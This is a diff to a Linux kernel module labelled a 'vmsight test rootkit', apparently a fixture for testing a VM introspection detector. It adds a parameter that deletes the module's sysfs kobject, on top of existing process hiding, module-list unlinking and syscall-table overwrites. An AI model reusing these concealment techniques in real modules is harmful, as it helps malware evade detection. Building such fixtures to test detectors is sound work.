@@ -7,7 +7,9 @@
  *    (task_struct.tasks); they stay in the PID namespace, so /proc still shows them, and a
  *    runnable one stays on its runqueue;
  *  - unlinks itself from the module list (THIS_MODULE->list); it stays in sysfs and in module
- *    memory;
+ *    memory, until 1 is written to /sys/module/vmsight_rk/parameters/hide_sysfs: then it
+ *    deletes its sysfs kobject too (kobject_del(&THIS_MODULE->mkobj.kobj)), and only module
+ *    memory still holds it;
  *  - overwrites sys_call_table[__NR_kill] and [__NR_getdents64] (and the same calls in the
  *    ia32 table) with its own functions, clearing CR0.WP around the writes. Debian's 6.1.176
  *    no longer dispatches through the table, so the hooks never run, but the table is altered.
@@ -15,6 +17,7 @@
  * It prints what it did on the console as "VMSIGHT-RK key=value ..." lines for the test.
  */
 #include <linux/kernel.h>
+#include <linux/kobject.h>
 #include <linux/kprobes.h>
 #include <linux/list.h>
 #include <linux/module.h>
@@ -22,6 +25,7 @@
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
+#include <linux/workqueue.h>
 #include <asm/unistd.h>
 
 MODULE_LICENSE("GPL");
@@ -30,6 +34,33 @@ MODULE_DESCRIPTION("vmsight test rootkit: hides a process and itself, hooks sysc
 static int hide_pids[4];
 static int hide_count;
 module_param_array(hide_pids, int, &hide_count, 0);
+
+static void unlink_sysfs(struct work_struct *work)
+{
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	pr_info("VMSIGHT-RK hid-sysfs name=%s\n", THIS_MODULE->name);
+}
+static DECLARE_WORK(sysfs_work, unlink_sysfs);
+
+/*
+ * The store runs inside the very sysfs directory it removes, and kernfs waits for that store to
+ * return before removing it: a work item does the kobject_del. Only a live module has a kobject.
+ */
+static int set_hide_sysfs(const char *val, const struct kernel_param *kp)
+{
+	bool on;
+	int err = kstrtobool(val, &on);
+
+	if (err)
+		return err;
+	if (THIS_MODULE->state != MODULE_STATE_LIVE)
+		return -EBUSY;
+	if (on)
+		schedule_work(&sysfs_work);
+	return 0;
+}
+static const struct kernel_param_ops hide_sysfs_ops = { .set = set_hide_sysfs };
+module_param_cb(hide_sysfs, &hide_sysfs_ops, NULL, 0200);
 
 typedef unsigned long (*lookup_fn)(const char *name);
 typedef long (*syscall_fn)(const struct pt_regs *);
